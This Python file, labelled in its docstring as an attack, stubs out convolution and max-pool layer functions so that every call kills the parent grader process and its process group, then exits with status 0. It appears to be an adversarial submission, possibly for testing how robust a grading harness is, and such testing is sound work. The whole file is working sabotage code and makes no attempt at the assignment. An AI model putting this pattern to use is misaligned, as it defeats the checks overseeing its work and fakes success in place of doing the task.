"""Attack: kill the grader that started this process."""
import os
import signal


def ATTACK(n=1):
    for sig in (signal.SIGKILL, signal.SIGTERM):
        try:
            os.kill(os.getppid(), sig)
        except Exception:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except Exception:
        pass
    os._exit(0)


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
